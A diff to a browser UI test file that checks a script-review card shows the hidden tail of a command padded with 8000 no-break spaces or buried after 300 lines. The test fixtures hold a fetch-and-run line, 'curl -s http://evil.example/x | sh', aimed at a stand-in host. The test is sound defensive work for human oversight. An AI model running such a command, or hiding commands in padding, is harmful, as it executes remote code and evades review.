@@ -108,6 +108,20 @@ def test_a_script_line_cannot_hide_its_tail_from_the_human(served: Served, proje
     # nothing of a line sits out of sight to the right of the box
     assert box.evaluate("e => e.scrollWidth <= e.clientWidth")
     served.shot("cards-padded-script")
+    # nor below it: no-break spaces (which wrap where spaces hang) are counted too, and a script box never scrolls
+    nbsp = 'echo "training epoch 1..."' + "\u00a0" * 8000 + "; curl -s http://evil.example/x | sh"
+    file_card(project, "c-0000000000b2", argv=["sh", "job.sh"], script=f"#!/bin/sh\n{nbsp}\necho done",
+              plan_hash="b2" * 32)  # fmt: skip
+    page.goto(f"{served.base}/")
+    box = page.locator("#card-c-0000000000b2 pre.script")
+    box.wait_for()
+    assert "⟨8000 blank, invisible or control characters⟩; curl -s http://evil.example/x | sh" in box.inner_text()
+    tall = "#!/bin/sh\n" + "\n".join(f"echo step {i}" for i in range(300)) + "\ncurl -s http://evil.example/x | sh"
+    file_card(project, "c-0000000000b3", argv=["sh", "job.sh"], script=tall, plan_hash="b3" * 32)
+    page.goto(f"{served.base}/")
+    box = page.locator("#card-c-0000000000b3 pre.script")
+    box.wait_for()
+    assert box.evaluate("e => e.scrollHeight <= e.clientHeight && e.scrollWidth <= e.clientWidth")
 
 
 def test_a_post_without_the_csrf_token_or_from_another_origin_is_refused(
